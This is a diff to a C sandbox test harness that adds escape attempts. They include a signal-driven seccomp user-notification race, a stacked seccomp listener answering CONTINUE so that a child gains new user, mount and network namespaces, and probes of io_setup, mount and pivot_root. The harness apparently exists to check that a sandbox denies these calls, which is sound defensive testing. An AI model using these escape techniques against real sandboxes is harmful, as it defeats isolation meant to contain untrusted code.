@@ -26,6 +26,92 @@
 #include <sys/wait.h>
 #include <unistd.h>
 #include <dirent.h>
+#include <linux/filter.h>
+#include <linux/seccomp.h>
+#include <pthread.h>
+#include <stddef.h>
+#include <sys/ioctl.h>
+#include <time.h>
+
+static int denied(const char *what, int err);
+static int allowed(const char *what);
+
+/* --- The seccomp user-notification race (issue: a stacked listener answering CONTINUE). --- */
+static volatile int race_stop;
+static pid_t race_tid;
+static void race_handler(int s) { (void)s; }
+static void *race_interrupter(void *a) {
+    (void)a;
+    while (!race_stop) { syscall(SYS_tgkill, getpid(), race_tid, SIGUSR1); sched_yield(); }
+    return NULL;
+}
+static double now_s(void) {
+    struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t);
+    return t.tv_sec + t.tv_nsec / 1e9;
+}
+/* Stacks a filter of our own that sends unshare to a listener we hold, then lets a child call
+ * unshare(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWNET) and answers CONTINUE. 1: the child got the new
+ * namespaces (escape); otherwise -errno of the seccomp() call or 0. */
+static int stacked_listener_escape(void) {
+    struct sock_filter f[] = {
+        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 0, 1),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+    };
+    struct sock_fprog prog = { .len = 4, .filter = f };
+    long l = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
+    if (l < 0) return -errno;
+    pid_t c = fork();
+    if (c == 0) _exit(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET) == 0 ? 0 : 3);
+    struct seccomp_notif req;
+    memset(&req, 0, sizeof req);
+    if (ioctl((int)l, SECCOMP_IOCTL_NOTIF_RECV, &req) == 0) {
+        struct seccomp_notif_resp resp = { .id = req.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
+        ioctl((int)l, SECCOMP_IOCTL_NOTIF_SEND, &resp);
+    }
+    int st = 0;
+    waitpid(c, &st, 0);
+    return WIFEXITED(st) && WEXITSTATUS(st) == 0;
+}
+/* For ARG seconds: call unshare (a violation) while another thread interrupts it with signals,
+ * so that notifications vanish between the supervisor's poll and its receive. When the calls
+ * start failing with ENOSYS (no listener left), stack a listener of our own. */
+static int notify_race(const char *arg) {
+    double secs = *arg ? atof(arg) : 3.0;
+    struct sigaction sa;
+    memset(&sa, 0, sizeof sa);
+    sa.sa_handler = race_handler; /* no SA_RESTART: an interrupted call returns EINTR */
+    sigaction(SIGUSR1, &sa, NULL);
+    race_tid = (pid_t)syscall(SYS_gettid);
+    pthread_t t;
+    pthread_create(&t, NULL, race_interrupter, NULL);
+    long tries = 0, eperm = 0, eintr = 0, enosys = 0, other = 0;
+    double end = now_s() + secs;
+    while (now_s() < end) {
+        tries++;
+        if (unshare(CLONE_NEWUSER) == 0) { race_stop = 1; return allowed("unshare during the race"); }
+        if (errno == EPERM) eperm++;
+        else if (errno == EINTR) {
+            /* Let the supervisor find nothing pending right after its receive failed. */
+            eintr++;
+            double until = now_s() + 200e-6;
+            while (now_s() < until) {}
+        }
+        else if (errno == ENOSYS) { enosys++; break; }
+        else other++;
+    }
+    race_stop = 1;
+    pthread_join(t, NULL);
+    int esc = stacked_listener_escape();
+    if (esc == 1) {
+        printf("ALLOWED stacked listener answered CONTINUE (unshare user+mount+net) after %ld tries, %ld ENOSYS\n", tries, enosys);
+        return 1;
+    }
+    printf("DENIED notify_race: %ld tries, %ld EPERM, %ld EINTR, %ld ENOSYS, %ld other; stacking a listener: %s\n",
+           tries, eperm, eintr, enosys, other, esc < 0 ? strerror(-esc) : "no escape");
+    return 0;
+}
 
 static int denied(const char *what, int err) {
     printf("DENIED %s: %s\n", what, strerror(err));
@@ -42,6 +128,15 @@ static int check(const char *what, long r) {
 }
 
 static int attack(const char *name, const char *arg) {
+    if (!strcmp(name, "notify_race")) return notify_race(arg);
+    if (!strcmp(name, "io_setup")) { /* an AIO context: counts against the host-wide fs.aio-max-nr */
+        unsigned long ctx = 0;
+        return check(name, syscall(SYS_io_setup, 1, &ctx));
+    }
+    if (!strcmp(name, "stack_listener")) { /* stack a listener without any race */
+        int esc = stacked_listener_escape();
+        return esc == 1 ? allowed("stacked listener answered CONTINUE") : denied("stacking a listener", esc < 0 ? -esc : EPERM);
+    }
     if (!strcmp(name, "mount")) return check(name, mount("none", "/tmp", "tmpfs", 0, NULL));
     if (!strcmp(name, "umount")) return check(name, umount2("/proc", MNT_DETACH));
     if (!strcmp(name, "pivot_root")) return check(name, syscall(SYS_pivot_root, "/tmp", "/tmp"));
